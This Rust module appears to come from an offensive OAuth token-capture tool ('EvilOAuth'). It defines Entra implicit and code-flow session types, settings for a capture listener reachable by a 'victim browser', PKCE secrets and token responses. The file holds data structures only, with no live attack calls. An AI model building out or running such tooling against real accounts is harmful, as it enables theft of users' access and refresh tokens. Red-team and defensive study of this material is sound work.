use serde::Deserialize;
use std::fmt;
use std::str::FromStr;
use std::sync::Arc;
use tokio::sync::RwLock;

use super::errors::IdpError;
use crate::config::{EVILOAUTH_AUTHORIZE_URL, EVILOAUTH_TOKEN_URL};

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum IdpKind {
    EntraImplicitFlow,
    EntraCodeFlow,
}

impl IdpKind {
    pub const SUPPORTED: [IdpKind; 2] = [IdpKind::EntraImplicitFlow, IdpKind::EntraCodeFlow];

    pub fn as_str(&self) -> &'static str {
        match self {
            Self::EntraImplicitFlow => "entra_implicit_flow",
            Self::EntraCodeFlow => "entra_code_flow",
        }
    }

    pub fn response_type(&self) -> &'static str {
        match self {
            Self::EntraImplicitFlow => "token",
            Self::EntraCodeFlow => "code",
        }
    }

    /// Path on the capture listener the IDP redirects the browser to.
    pub fn redirect_path(&self) -> &'static str {
        match self {
            Self::EntraImplicitFlow => "/redirect",
            Self::EntraCodeFlow => "/hook",
        }
    }

    pub fn supported_names() -> String {
        Self::SUPPORTED
            .iter()
            .map(IdpKind::as_str)
            .collect::<Vec<_>>()
            .join(", ")
    }
}

impl fmt::Display for IdpKind {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

impl FromStr for IdpKind {
    type Err = IdpError;

    fn from_str(s: &str) -> Result<Self, Self::Err> {
        Self::SUPPORTED
            .into_iter()
            .find(|kind| kind.as_str().eq_ignore_ascii_case(s))
            .ok_or_else(|| IdpError::Unsupported {
                name: s.to_string(),
                supported: Self::supported_names(),
            })
    }
}

/// Operator-supplied parameters for one IDP session.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct IdpSettings {
    pub client_id: Option<String>,
    pub scope: String,
    pub final_destination: String,
    /// `host[:port]` of the capture listener as reachable by the victim browser
    pub redirect_server: String,
    pub authorize_url: String,
    pub token_url: String,
}

impl IdpSettings {
    pub fn new(redirect_server: impl Into<String>) -> Self {
        Self {
            client_id: None,
            scope: String::new(),
            final_destination: "/".to_string(),
            redirect_server: redirect_server.into(),
            authorize_url: EVILOAUTH_AUTHORIZE_URL.to_string(),
            token_url: EVILOAUTH_TOKEN_URL.to_string(),
        }
    }
}

/// PKCE pair plus the anti-forgery state of a code-flow session.
#[derive(Clone, PartialEq, Eq)]
pub struct CodeFlowSecrets {
    pub state: String,
    pub code_verifier: String,
    pub code_challenge: String,
}

impl fmt::Debug for CodeFlowSecrets {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("CodeFlowSecrets")
            .field("state", &self.state)
            .field("code_verifier", &"[redacted]")
            .field("code_challenge", &self.code_challenge)
            .finish()
    }
}

/// One in-flight authorization request.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct IdpSession {
    pub kind: IdpKind,
    pub client_id: String,
    pub scope: String,
    pub final_destination: String,
    pub redirect_uri: String,
    pub token_url: String,
    pub url: String,
    pub code_flow: Option<CodeFlowSecrets>,
    pub(super) consumed: bool,
}

/// What `/hook` needs to redeem an authorization code.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CodeFlowGrant {
    pub client_id: String,
    pub scope: String,
    pub redirect_uri: String,
    pub token_url: String,
    pub code_verifier: String,
    pub final_destination: String,
}

/// Holds the most recently configured IDP session.
#[derive(Debug, Clone, Default)]
pub struct IdpSessionHolder {
    pub(super) inner: Arc<RwLock<Option<IdpSession>>>,
}

/// Token endpoint response for both the code and refresh grants.
#[derive(Debug, Clone, Deserialize)]
pub struct TokenResponse {
    pub access_token: String,
    #[serde(default)]
    pub token_type: Option<String>,
    #[serde(default)]
    pub expires_in: Option<i64>,
    #[serde(default)]
    pub scope: Option<String>,
    #[serde(default)]
    pub refresh_token: Option<String>,
    #[serde(default)]
    pub id_token: Option<String>,
}
